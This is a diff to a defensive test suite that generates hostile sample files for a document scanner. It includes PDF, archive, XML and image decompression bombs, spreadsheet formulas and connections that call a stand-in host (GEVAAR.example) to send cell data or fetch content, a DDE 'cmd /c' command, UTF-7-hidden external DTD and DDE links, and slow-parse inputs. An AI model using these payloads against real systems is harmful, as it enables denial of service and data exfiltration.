@@ -241,6 +241,22 @@ def pdf_with_content_elsewhere() -> Iterator[tuple[str, bytes]]:
 
 
 @family
+def pdf_that_unpacks_without_end() -> Iterator[tuple[str, bytes]]:
+    """The object of its page lies in a stream that is small on the disk and immense in memory."""
+    for size in (40, 100):
+        page = b"4 0 << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /GEVAAR true >>" + b" " * (size * 1024 * 1024)
+        packed = zlib.compress(page)
+        inside = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(packed), packed)
+        places, made = {}, b"%PDF-1.5\n"
+        for number, thing in ((1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"), (3, inside)):
+            places[number] = len(made)
+            made += b"%d 0 obj\n%b\nendobj\n" % (number, thing)
+        rows = b"".join(struct.pack(">BIH", *row) for row in ((0, 0, 0xFFFF), *((1, places[number], 0) for number in (1, 2, 3)), (2, 3, 0)))
+        head = b"<< /Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(rows)
+        yield "bomb.pdf", made + b"5 0 obj\n%b\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, rows, len(made))
+
+
+@family
 def pdf_locked_or_damaged() -> Iterator[tuple[str, bytes]]:
     good = samples.pdf()
     yield "locked.pdf", samples.saved(samples.pages(), encryption=Encryption(owner="a", user="b"))
@@ -297,6 +313,12 @@ def images_too_large_or_damaged() -> Iterator[tuple[str, bytes]]:
     for size in ((14_000, 14_000), (100_000, 100), (8_000, 8_000), (2_000_000_000, 2_000_000_000), (0, 0), (20_001, 1)):
         yield "large.png", claims(*size)
     yield "flat.png", samples.image(size=(9_000, 6_000))
+    bomb = samples.image(size=(6_500, 6_500), comment="GEVAAR")
+    yield "many.docx", samples.docx("GEVAAR", {f"word/media/image{number}.png": bomb for number in range(5)})
+    drawn = samples.image("JPEG", size=(5_000, 5_000), progressive=True)
+    scan = drawn[drawn.rindex(b"\xff\xda"):-2]
+    yield "scans.jpg", drawn[:-2] + scan * 3_000 + b"\xff\xd9GEVAAR"
+    yield "scans.docx", samples.docx("GEVAAR", {"word/media/image1.jpg": drawn[:-2] + scan * 3_000 + b"\xff\xd9"})
     png, jpeg = samples.image(size=(200, 200)), samples.image("JPEG", size=(200, 200))
     for part in (0.05, 0.3, 0.8):
         yield "cut.png", png[: int(len(png) * part)]
@@ -382,6 +404,25 @@ def office_fields_that_start_something() -> Iterator[tuple[str, bytes]]:
         runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in text.replace('"', "'"))
         yield "a.docx", samples.docx(body=f"<w:p>{runs}</w:p>")
     yield "a.docx", samples.docx(body='<w:altChunk r:id="GEVAAR"/>')
+    yield "a.docx", samples.docx(parts={"word/settings.xml": '<s><mailMerge><connectString val="DSN=GEVAAR"/></mailMerge></s>'})
+
+
+@family
+def sheets_that_fetch() -> Iterator[tuple[str, bytes]]:
+    """Formulas and connections by which a spreadsheet sends or gets something when it is opened (ASVS V1.2.10)."""
+    for formula in (
+        'WEBSERVICE("https://GEVAAR.example/"&amp;A1)', 'FILTERXML(_xlfn.webservice ("https://GEVAAR.example"),"x")',
+        '_xlfn.IMAGE("https://GEVAAR.example/x.png")', 'RTD("GEVAAR",,"x")', 'CALL("urlmon","GEVAAR")', "cmd|'/c GEVAAR'!A0",
+    ):
+        for place in ("<sheetData><row><c><f>{}</f></c></row></sheetData>", "<dataValidation><formula1>{}</formula1></dataValidation>"):
+            yield "a.xlsx", samples.sheet(f"<worksheet>{place.format(formula)}</worksheet>")
+        yield "a.xlsx", samples.sheet("<x/>", book=f'<definedNames><definedName name="x">{formula}</definedName></definedNames>')
+    linked = '<connections><connection id="1" refreshOnLoad="1"><webPr url="https://GEVAAR.example"/></connection></connections>'
+    yield "a.xlsx", samples.sheet("<x/>", parts={"xl/connections.xml": linked})
+    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4APA-ddeLink ddeService="GEVAAR"/+AD4APA-/x+AD4-'
+    yield "a.xlsx", samples.sheet("<x/>", parts={"xl/externalLinks/externalLink1.xml": hidden})
+    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "https://GEVAAR.example/x.dtd"+AD4APA-x/+AD4-'
+    yield "a.xlsx", samples.sheet(hidden)
 
 
 @family
@@ -440,6 +481,8 @@ def archives_that_unpack_without_end() -> Iterator[tuple[str, bytes]]:
     yield "bomb.docx", samples.docx(parts={"word/document.xml": b"<x>" + b"a" * (20 * 1024 * 1024) + b"GEVAAR</x>"})
     many = {f"word/x{number}.xml": b"<x>" + b"a" * 900_000 + b"GEVAAR</x>" for number in range(180)}
     yield "many.docx", samples.archive(samples.docx_parts() | many)
+    forest = b"<x>GEVAAR" + b"".join(b"<%c/>" % (97 + each % 26) for each in random.Random(3).randbytes(4_500_000)) + b"</x>"
+    yield "forest.xlsx", samples.sheet("<x/>", parts={"xl/worksheets/sheet2.xml": forest})
     yield "count.docx", samples.archive(samples.docx_parts() | {f"word/x{number}.xml": "GEVAAR" for number in range(3100)})
     lying = samples.docx(parts={"word/styles.xml": b"<x>" + b"a" * (3 * 1024 * 1024) + b"GEVAAR</x>"})
     yield "lying.docx", lying.replace(struct.pack("<I", 3 * 1024 * 1024 + 13), struct.pack("<I", 10))
@@ -473,6 +516,7 @@ def scripts_as_text() -> Iterator[tuple[str, bytes]]:
     yield "a.txt", "regel \u202e GEVAAR".encode()
     yield "a.txt", "GEVAAR <script".encode("utf-16")
     yield "a.txt", b"x GEVAAR " * 300_000
+    yield "slow.txt", b"<" + b" " * 300_000 + b"/" + b" " * 300_000 + b"script>GEVAAR"
 
 
 @family
@@ -529,6 +573,11 @@ def emails() -> Iterator[tuple[str, bytes]]:
     yield "charset.eml", b"From: a@b.example\nDate: x\nContent-Type: text/plain; charset=GEVAAR\n\nHoi\n"
     yield "head.eml", b"From: a@b.example\nDate: x\nSubject: a\n" + b"X: y\n" * 50_000 + b"\nHoi <script>\n"
     yield "a.msg", samples.mail("GEVAAR")
+    crowd = b", ".join(b"a%d <a%d@GEVAAR.example>" % (number, number) for number in range(20_000))
+    yield "crowd.eml", b"From: a@b.example\nDate: x\nTo: " + crowd + b"\n\nHoi\n"
+    kind, words = b"Content-Type: application/octet-stream", b"; ".join(b"a%d*0=GEVAAR" % number for number in range(20_000))
+    yield "words.eml", samples.mail("Hoi", ("b.txt", b"x")).replace(kind, b"Content-Type: a/b; " + words)
+    yield "slow.eml", samples.mail("Hoi <" + "\n" * 300_000 + "script>GEVAAR".replace("GEVAAR", "x"))
 
 
 @family
